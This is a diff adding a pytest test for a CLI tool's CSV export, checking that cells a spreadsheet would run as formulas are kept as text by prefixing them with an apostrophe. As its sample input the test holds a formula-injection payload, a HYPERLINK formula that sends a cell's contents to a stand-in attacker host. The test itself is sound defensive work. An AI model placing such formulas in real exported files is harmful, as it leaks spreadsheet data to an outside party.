@@ -267,3 +267,27 @@ def test_export_out_refuses_an_existing_file_unless_force(isolated: Path) -> Non
     assert to_stdout.exit_code == 0
     assert "an entry" in to_stdout.stdout
     assert not (Path.cwd() / "-").exists()
+
+
+# -- item 5: formulas in CSV ----------------------------------------------------------------
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_kept_as_text() -> None:
+    import csv
+    import io
+    import json
+
+    from helpers import invoke
+
+    evil = '=HYPERLINK("http://evil.example/?d="&B3,"click")'
+    assert invoke("add", evil, "-m", "5", "-t", "+ good day", "-g", "@home").exit_code == 0
+    assert invoke("add", "-m", "3", "--", "-2 today").exit_code == 0
+    for result in (invoke("export", "-f", "csv"), invoke("list", "-f", "csv")):
+        assert result.exit_code == 0, result.stderr
+        rows = list(csv.DictReader(io.StringIO(result.stdout.removeprefix("\ufeff"))))
+        by_text = {row["text"]: row for row in rows}
+        assert set(by_text) == {"'" + evil, "'-2 today"}
+        assert by_text["'" + evil]["triggers"] == "'+ good day"
+        assert by_text["'" + evil]["tags"] == "'@home"
+    exported = json.loads(invoke("export", "-f", "json").stdout)
+    assert {e["text"] for e in exported["entries"]} == {evil, "-2 today"}
